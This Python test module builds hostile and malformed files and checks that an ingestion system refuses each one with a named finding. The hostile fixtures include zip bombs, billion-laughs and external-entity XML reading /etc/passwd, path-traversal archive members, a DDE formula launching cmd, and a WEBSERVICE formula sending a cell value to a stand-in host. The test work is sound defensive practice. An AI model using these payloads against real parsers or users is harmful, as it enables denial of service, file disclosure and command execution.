"""Files that want to hurt: each is refused with one finding, quickly and in little memory."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from tests.corpus.case import (
    HEADER,
    Case,
    by_openpyxl,
    by_xlsxwriter,
    changed,
    plain_xlsx,
    raw_sheet,
    records,
    refused,
    replacing,
    sheet_xml,
    text,
    zipped,
)

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">'.encode() for i in range(9))
    + b"]>"
)


def _bomb(megabytes: int) -> bytes:
    """Return a sheet that inflates to ``megabytes`` of the same cell."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        source = zipfile.ZipFile(io.BytesIO(plain_xlsx()))
        for name in source.namelist():
            if name != SHEET:
                out.writestr(name, source.read(name))
        with out.open(SHEET, "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(b"<row></row>".ljust(1000) * 1000)
    return target.getvalue()


def _lying(claimed: int, megabytes: int = 60) -> Callable[[], bytes]:
    """Return a maker of a bomb whose directory claims a harmless size."""

    def make() -> bytes:
        data = bytearray(_bomb(megabytes))
        name = SHEET.encode()
        central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
        data[central + 24 : central + 28] = struct.pack("<I", claimed)
        return bytes(data)

    return make


def _encrypted_zip() -> bytes:
    data = bytearray(plain_xlsx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _ole(stream: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(600)
    )


def _many_names() -> bytes:
    names = "".join(f'<definedName name="n{i}">Data!$A$1</definedName>' for i in range(100_000))
    added = b"<definedNames>" + names.encode() + b"</definedNames>"
    return changed(
        {
            "xl/workbook.xml": lambda d: d.replace(b"<definedNames/>", b"").replace(
                b"</sheets>", b"</sheets>" + added
            )
        }
    )()


def _formula(formula: str) -> Callable[[], bytes]:
    return raw_sheet(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>')


def _dde() -> bytes:
    rels = "xl/_rels/workbook.xml.rels"
    link = (
        b'<Relationship Id="rId77" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
    )
    return changed(
        {
            rels: lambda d: d.replace(b"</Relationships>", link),
            "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        }
    )()


def _deep(levels: int) -> bytes:
    data = b"Team,Cost\nA,3\n"
    for level in range(levels):
        data = zipped({f"{level}.zip" if level else "a.csv": data})()
    return data


def _damaged_part() -> bytes:
    data = bytearray(plain_xlsx())
    at = data.find(SHEET.encode()) + len(SHEET)
    for offset in range(40, 120):
        data[at + offset] ^= 0xFF
    return bytes(data)


CASES = (
    refused("empty.csv", lambda: b"", "file_empty"),
    refused("blank.csv", text("\n\n  \n"), "file_empty"),
    refused("bom-only.csv", lambda: b"\xef\xbb\xbf", "file_empty"),
    refused("empty-workbook.xlsx", by_openpyxl([]), "no_table"),
    refused("empty.zip", zipped({}), "file_empty"),
    refused(
        "letter.docx",
        zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "file_type_unknown",
    ),
    refused(
        "slides.pptx",
        zipped({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
        "file_type_unknown",
    ),
    refused(
        "letter.odt",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        "file_type_unknown",
    ),
    refused("paper.pdf", lambda: b"%PDF-1.7\n%\xe2\xe3\n", "file_type_unknown"),
    refused("picture.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "file_type_unknown"),
    refused("program.xlsx", lambda: b"MZ\x90\x00" + bytes(500), "file_type_unknown"),
    refused("data.json", text('{"a": [1, 2, 3]}'), "file_type_unknown"),
    refused("feed.xml", text('<?xml version="1.0"?><rss><channel/></rss>'), "file_type_unknown"),
    refused(
        "noise.csv",
        lambda: bytes((i * 37 + i // 7) % 9 + (i % 13) * 17 % 9 for i in range(5000)),
        "file_type_unknown",
    ),
    refused("old-document.doc", lambda: _ole("WordDocument"), "file_type_unknown"),
    refused("prose.txt", text("Dear all,\nplease find the numbers attached.\n"), "no_table"),
    refused("protected.xlsx", lambda: _ole("EncryptedPackage"), "file_encrypted"),
    refused("protected-members.xlsx", _encrypted_zip, "file_encrypted"),
    refused("cut-half.xlsx", lambda: plain_xlsx()[: len(plain_xlsx()) // 2], "file_corrupt"),
    refused("cut-end.xlsx", lambda: plain_xlsx()[:-10], "file_corrupt"),
    refused("zip-header-only.xlsx", lambda: b"PK\x03\x04" + bytes(100), "file_corrupt"),
    refused("damaged-part.xlsx", _damaged_part, "file_corrupt"),
    refused("damaged.xls", lambda: _ole("Workbook"), "file_corrupt"),
    refused(
        "no-workbook.xlsx",
        zipped({"[Content_Types].xml": b"<Types/>", "xl/nothing.xml": b"<x/>"}),
        "file_corrupt",
    ),
    refused(
        "missing-sheet.xlsx",
        replacing("xl/_rels/workbook.xml.rels", b"sheet1.xml", b"sheet7.xml"),
        "file_corrupt",
    ),
    refused(
        "half-a-row.xlsx",
        changed({SHEET: sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')[:-40]}),
        "file_corrupt",
    ),
    refused(
        "bad-number.xlsx", raw_sheet('<row r="1"><c r="A1"><v>seven</v></c></row>'), "no_table"
    ),
    refused(
        "text-not-there.xlsx",
        raw_sheet('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'),
        "file_corrupt",
    ),
    refused(
        "cell-outside.xlsx", raw_sheet('<row r="1"><c r="ZZZ1"><v>1</v></c></row>'), "file_corrupt"
    ),
    refused(
        "workbook-not-xml.xlsx", changed({"xl/workbook.xml": b"not xml at all"}), "file_corrupt"
    ),
    refused(
        "styles-not-xml.xlsx", changed({"xl/styles.xml": b"<styleSheet><broken"}), "file_corrupt"
    ),
    refused("bomb.xlsx", lambda: _bomb(70), "archive_bomb"),
    refused("bomb-absolute.xlsx", lambda: _claiming(5_000_000_000), "archive_bomb"),
    refused("bomb-lying.xlsx", _lying(5_000), "file_corrupt"),
    refused("bomb.zip", zipped({"a.csv": b"a,b\n" + b"1,2\n" * 15_000_000}), "archive_bomb"),
    refused(
        "many-members.zip",
        zipped({f"{i}.csv": b"a,b\n" for i in range(6_000)}),
        "archive_many_files",
    ),
    refused("zip-in-zip.zip", lambda: _deep(3), "archive_in_archive"),
    refused("path-trick.zip", zipped({"../../etc/cron.d/x.csv": b"a,b\n1,2\n"}), "archive_path"),
    refused("path-trick.xlsx", changed({"../evil.xml": b"<x/>"}), "archive_path"),
    refused("path-absolute.zip", zipped({"/etc/passwd": b"a,b\n1,2\n"}), "archive_path"),
    refused("path-drive.zip", zipped({"C:\\x.csv": b"a,b\n1,2\n"}), "archive_path"),
    refused(
        "entities-sheet.xlsx",
        changed({SHEET: ENTITIES + sheet_xml('<row r="1"><c r="A1"><v>&j;</v></c></row>')[38:]}),
        "xml_entities",
    ),
    refused(
        "entities-strings.xlsx",
        changed(
            {STRINGS: ENTITIES + b"<sst><si><t>&j;</t></si></sst>"},
            by_xlsxwriter(lambda _, s: s.write(0, 0, "x")),
        ),
        "xml_entities",
    ),
    refused(
        "entities-workbook.xlsx",
        changed({"xl/workbook.xml": ENTITIES + b"<workbook>&j;</workbook>"}),
        "xml_entities",
    ),
    refused(
        "external-entity.xlsx",
        changed(
            {SHEET: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + sheet_xml("")[38:]}
        ),
        "xml_entities",
    ),
    refused(
        "dimension.xlsx",
        raw_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', '<dimension ref="A1:BDWGN1048576"/>'),
        "dimension_impossible",
    ),
    refused(
        "dimension-rows.xlsx",
        raw_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', '<dimension ref="A1:B99999999"/>'),
        "dimension_impossible",
    ),
    refused("names.xlsx", _many_names, "too_many_names"),
    refused(
        "webservice.xlsx", _formula('WEBSERVICE("http://example.com/"&amp;A2)'), "formula_calls_net"
    ),
    refused("rtd.xlsx", _formula('RTD("server",,"topic")'), "formula_calls_net"),
    refused(
        "image.xlsx", _formula('_xlfn.IMAGE("https://example.com/a.png")'), "formula_calls_net"
    ),
    refused("dde-formula.xlsx", _formula("cmd|' /C calc'!A0"), "formula_calls_net"),
    refused("dde-link.xlsx", _dde, "formula_calls_net"),
    refused(
        "too-wide.csv",
        text(",".join(["a"] * 20_000) + "\n" + ",".join(["1"] * 20_000) + "\n"),
        "too_many_columns",
    ),
    refused("diagonal.xlsx", lambda: _diagonal(), "too_many_cells"),
    Case(
        "stray-only.xlsx",
        raw_sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        (),
        (),
        ("no_table",),
    ),
)
"""One line per file, so that the list reads as a list."""


def _claiming(size: int) -> bytes:
    """Return a workbook whose directory claims a huge shared-string table."""
    data = bytearray(by_openpyxl([HEADER, *records()])())
    central = data.find(b"PK\x01\x02")
    data[central + 24 : central + 28] = struct.pack("<I", min(size, 0xFFFF_FFF0))
    return bytes(data)


def _letters(position: int) -> str:
    from ingest.model import column_letter

    return column_letter(position)


def _diagonal() -> bytes:
    rows = "".join(
        f'<row r="{i + 1}"><c r="{_letters(i)}{i + 1}"><v>1</v></c></row>' for i in range(16_000)
    )
    return raw_sheet(rows)()
